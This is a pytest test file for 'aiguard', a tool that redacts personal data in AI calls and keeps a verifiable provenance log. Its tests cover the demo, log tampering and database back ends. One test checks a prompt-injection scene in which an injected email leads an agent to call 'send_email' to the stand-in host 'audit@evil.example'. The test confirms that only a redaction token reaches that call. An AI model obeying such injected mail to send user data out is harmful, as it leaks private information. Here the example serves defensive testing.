"""The `aiguard` command: demo and verify, with their exit codes."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from aiguard.cli import main


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "aiguard", *args],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


class TestDemo:
    def test_a_reader_that_goes_away_ends_the_command_quietly(self, tmp_path: Path) -> None:
        """`aiguard demo | head -1`: exit 141 (SIGPIPE's status), no traceback."""
        process = subprocess.Popen(
            [sys.executable, "-m", "aiguard", "demo", "--out", str(tmp_path)],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        assert process.stdout is not None and process.stderr is not None
        process.stdout.readline()
        process.stdout.close()  # the reader goes away after one line
        stderr = process.stderr.read().decode()
        assert process.wait(timeout=60) == 141
        assert "Traceback" not in stderr and "BrokenPipeError" not in stderr

    def test_demo_writes_a_verified_log_and_refuses_training(self, tmp_path: Path) -> None:
        (tmp_path / "provenance.jsonl").write_text("stale content\n")
        result = run("demo", "--out", str(tmp_path))
        assert result.returncode == 0, result.stderr
        out = result.stdout
        assert out.count("REFUSED (ConsentRequired)") == 2
        assert "training call : allowed" in out
        assert "no raw personal value" in out
        assert "OK:" in out
        log = tmp_path / "provenance.jsonl"
        assert main(["verify", str(log)]) == 0
        events = [json.loads(line) for line in log.read_text().splitlines()]
        assert sum(e["type"] == "refusal" for e in events) == 2
        # Each field is shown whole, wrapped under its label, never cut short.
        fields = re.findall(r"^  (\w[\w ]*?) *: (.*(?:\n {18}.*)*)", out, re.M)
        assert len(fields) == 19 and not any("…" in text for _, text in fields)
        received = [" ".join(text.split()) for label, text in fields if label == "model received"]
        assert len(received) == 4 and all("@" not in text for text in received)
        # The agent scene: the trusted lookup gets the original, the injected mail a token.
        tools = [" ".join(text.split()) for label, text in fields if label == "tool call"]
        assert tools[0].startswith('lookup_account {"email": "maria.keller@example.com"}')
        assert tools[1].startswith('send_email {"to": "audit@evil.example", "body": "[EMAIL_')
        assert "maria.keller" not in tools[1]
        assert sum(e.get("tool_tokens_kept", 0) for e in events) == 1
        assert all(text.endswith((".", ")")) for text in received)
        sent = [" ".join(text.split()) for label, text in fields if label == "app sent"]
        assert "4111 1111 1111 1111" in sent[0] and "maria.keller@example.com" in sent[0]

    def test_demo_without_out_uses_a_temp_dir(self) -> None:
        result = run("demo")
        assert result.returncode == 0, result.stderr
        assert "provenance: " in result.stdout


class TestVerifyCommand:
    @pytest.fixture
    def log(self, tmp_path: Path) -> Path:
        assert run("demo", "--out", str(tmp_path)).returncode == 0
        return tmp_path / "provenance.jsonl"

    def test_ok(self, log: Path, capsys: pytest.CaptureFixture[str]) -> None:
        assert main(["verify", str(log)]) == 0
        assert capsys.readouterr().out.startswith("OK: ")

    def test_json_format(self, log: Path, capsys: pytest.CaptureFixture[str]) -> None:
        assert main(["verify", str(log), "--format", "json"]) == 0
        report = json.loads(capsys.readouterr().out)
        assert report["ok"] is True and report["records"] > 3

    def test_changed_record_names_line_and_seq(
        self, log: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        lines = log.read_bytes().splitlines(keepends=True)
        lines[2] = lines[2].replace(b'"allow"', b'"deny"', 1)
        log.write_bytes(b"".join(lines))
        assert main(["verify", str(log), "--format", "json"]) == 1
        failure = json.loads(capsys.readouterr().out)["failure"]
        assert failure["line"] == 3 and failure["seq"] == 2

    def test_removed_record(self, log: Path, capsys: pytest.CaptureFixture[str]) -> None:
        lines = log.read_bytes().splitlines(keepends=True)
        del lines[1]
        log.write_bytes(b"".join(lines))
        assert main(["verify", str(log)]) == 1
        assert "missing" in capsys.readouterr().out

    def test_torn_last_line(self, log: Path, capsys: pytest.CaptureFixture[str]) -> None:
        data = log.read_bytes()
        log.write_bytes(data[:-40])
        assert main(["verify", str(log)]) == 1
        assert "torn last line" in capsys.readouterr().out

    def test_unreadable_file_exits_2(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        assert main(["verify", str(tmp_path / "missing.jsonl")]) == 2
        assert "cannot read" in capsys.readouterr().err

    def test_bad_arguments_exit_2(self) -> None:
        result = run("verify")
        assert result.returncode == 2
        result = run("verify", "x", "--format", "xml")
        assert result.returncode == 2


class TestVerifyDatabases:
    def test_sqlite_log(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        from aiguard.provenance import ProvenanceLog
        from aiguard.provenance.sqlite_sink import SqliteSink

        db = tmp_path / "events.db"
        log = ProvenanceLog("db-log", [SqliteSink(db)])
        for i in range(5):
            log.append({"type": "call", "request_id": str(i)})
        log.close()
        assert main(["verify", f"sqlite:///{db}", "--format", "json"]) == 0
        assert json.loads(capsys.readouterr().out)["records"] == 6
        import sqlite3

        with sqlite3.connect(db) as conn:
            tables = [
                r[0] for r in conn.execute("select name from sqlite_master where type='table'")
            ]
            table = next(t for t in tables if "event" in t)
            conn.execute(f"delete from {table} where seq = 2")
        assert main(["verify", f"sqlite:///{db}"]) == 1
        assert "missing" in capsys.readouterr().out

    def test_postgres_log(self, capsys: pytest.CaptureFixture[str]) -> None:
        import os
        import uuid

        dsn = os.environ.get("AIGUARD_TEST_POSTGRES_DSN")
        if not dsn:
            pytest.skip("set AIGUARD_TEST_POSTGRES_DSN to run PostgreSQL tests")
        from aiguard.provenance import ProvenanceLog
        from aiguard.provenance.postgres import PostgresSink

        name = f"cli-{uuid.uuid4().hex[:8]}"
        sink = PostgresSink(dsn, log=name)
        log = ProvenanceLog(name, [sink])
        for i in range(3):
            log.append({"type": "call", "request_id": str(i)})
        log.close()
        assert main(["verify", dsn, "--log", name]) == 0
        assert capsys.readouterr().out.startswith("OK: ")
